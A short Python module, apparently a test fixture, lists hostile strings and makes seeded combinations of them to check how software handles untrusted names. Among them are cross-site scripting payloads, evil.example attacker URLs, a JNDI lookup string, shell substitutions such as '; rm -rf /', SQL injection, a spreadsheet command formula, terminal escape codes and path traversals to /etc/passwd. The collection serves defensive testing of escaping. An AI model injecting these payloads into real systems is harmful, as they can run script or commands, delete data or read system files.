"""Names that would do harm wherever they are not taken as text."""

from __future__ import annotations

import random

PIECES = [
    # pages and pictures
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", '" onmouseover="alert(1)',
    "' onfocus='alert(1)", "]]>", "<!--", "-->", "</title>", "</style>", "</svg>", "</textarea>", "javascript:alert(1)",
    "data:text/html,<b>", "http://evil.example/x.js", "//evil.example", "&lt;b&gt;", "&#60;", "&amp;", "R&D",
    "<a href=//evil.example>", "url(http://evil.example)", "expression(1)", "<bdo dir=rtl>",
    "<iframe src=//evil.example>", "<form action=//evil.example>", "<base href=//evil.example>", "<qt><b>bold</b></qt>",
    # templates, formats, other languages
    "{{ 7*7 }}", "{% raw %}", "${x}", "{0}", "{run}", "{0.__class__}", "{name!r:>99}", "%s%n", "%(name)s", "%1 %2",
    "`id`", "$(id)", "; rm -rf /", "'; DROP TABLE run; --", "\\", "${jndi:ldap://evil.example/a}",
    # spreadsheets
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r\n=1", "=cmd|' /C calc'!A0", "\uff1d1+1",
    # terminals, directions, what is no text
    "\x00", "\x1b[31m", "\x1b]0;title\x07", "\x9b2J", "\x07", "\x7f", "\r",
    "\u202e", "\u2066", "\ud800", "\ufffe", "\u2028", "\N{GRINNING FACE}", "한국어", "العربية", "日本語",
    "e\u0301\u0301\u0301", "\u200b", "a" * 500,
    # paths
    "../../etc/passwd", "C:\\Windows", "\\\\server\\share", "CON", "NUL.txt", "com1", ".hidden", "name.", "name ",
    "~", "-o", "%00", "a/b", "a:b", "file:///etc/passwd",
]  # fmt: skip


def hostile(count: int) -> list[str]:
    """All of them, and as many combinations as are missing; the same at every call."""
    draw = random.Random(7)
    return [*PIECES, *("".join(draw.choices(PIECES, k=draw.randint(2, 4))) for _ in range(count - len(PIECES)))]
